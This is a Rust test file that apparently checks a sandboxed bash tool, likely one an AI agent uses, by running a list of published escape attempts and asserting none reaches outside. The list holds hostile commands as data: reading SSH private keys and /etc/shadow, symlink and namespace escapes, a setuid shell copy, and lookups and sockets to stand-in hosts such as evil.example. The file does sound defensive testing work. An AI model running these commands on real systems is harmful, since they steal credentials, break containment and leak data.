//! Published attacks against comparable tools, as a command would try them: they may run, and have no effect outside.

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::json;

use crate::support::{everywhere, text, with_word};

/// `$OUTSIDE` is a directory of the person's with a file `f`; `~/.ssh/id_ed25519` holds a canary.
const ATTACKS: &[&str] = &[
    "cat ~/.ssh/id_ed25519",
    "echo x > $OUTSIDE/f",
    "echo x > $OUTSIDE/new",
    "ln ~/.ssh/id_ed25519 h && cat h",
    "ln -s ~/.ssh/id_ed25519 l && cat l",
    "cat /proc/1/root/etc/shadow",
    "cat /proc/self/root$HOME/.ssh/id_ed25519",
    "dig @192.0.2.1 x.example",
    "python3 -c \"import socket;socket.create_connection(('192.0.2.1',80),1)\"",
    "python3 -c \"import socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'x',('192.0.2.1',53))\"",
    "SSH_AUTH_SOCK=/run/user/1000/agent ssh-add -l",
    "python3 -c \"import socket;socket.socket(socket.AF_UNIX).connect('\\0x')\"",
    "ln -s $OUTSIDE d && echo x > d/f",
    "cd $OUTSIDE && echo x > f",
    "cd $OUTSIDE && rm -f f && mkdir new",
    "python3 -c 'import ctypes;print(ctypes.CDLL(None).syscall(425,1,ctypes.create_string_buffer(120)))'",
    "mknod d c 1 5 && head -c1 d",
    "cat <&9",
    "getent hosts $(hostname).evil.example",
    "mount --bind / $PWD",
    "unshare -Ur sh -c 'echo x > $OUTSIDE/f'",
    "chroot / sh -c 'echo x > $OUTSIDE/f'",
    "cp /bin/sh s && chmod u+s s && ./s -p -c 'echo x > $OUTSIDE/f'",
    "tar cf - ~/.ssh 2>/dev/null | tr -d '\\0'",
    "find / -xdev -name id_ed25519 -exec cat {} + 2>/dev/null",
    "(setsid sleep $NAP &) ; true",
    "nohup sleep $NAP >/dev/null 2>&1 & disown",
    "env; cat /proc/self/environ",
    "exec 3<>fifo; cat <&3",
    "cat",
    "head -c 100000 /dev/urandom",
];

#[test]
fn attacks_have_no_effect_outside() {
    everywhere("", &["--network", "off"], |inside| {
        inside.home_file(".ssh/id_ed25519", "canary");
        inside.outside_file("f", "before");
        let (outside, home) = (text(&inside.world.outside()), text(&inside.world.home()));
        let nap = crate::support::nap();
        let before = listing(&inside.world.outside());
        for attack in ATTACKS {
            let command = format!("export OUTSIDE={outside} NAP={nap}; {attack}");
            let reply = inside.client.call("bash", json!({ "command": command, "timeout": 5000 }));
            assert!(!reply.text().contains("canary"), "{attack}: {}", reply.text());
            assert!(!reply.text().lines().any(|line| line.starts_with("root:")), "{attack}: {}", reply.text());
        }
        assert_eq!(listing(&inside.world.outside()), before, "level {:?}", inside.level);
        assert!(Path::new(&home).join(".ssh/id_ed25519").exists());
        inside.client.hang_up();
        inside.client.wait_for_exit();
        assert_eq!(with_word(&nap), Vec::<u32>::new(), "orphans end with their session");
    });
}

/// Every file of a directory with what is in it.
fn listing(directory: &Path) -> BTreeMap<String, String> {
    let entries = std::fs::read_dir(directory).unwrap().flatten();
    entries.map(|entry| (text(&entry.path()), std::fs::read_to_string(entry.path()).unwrap_or_default())).collect()
}
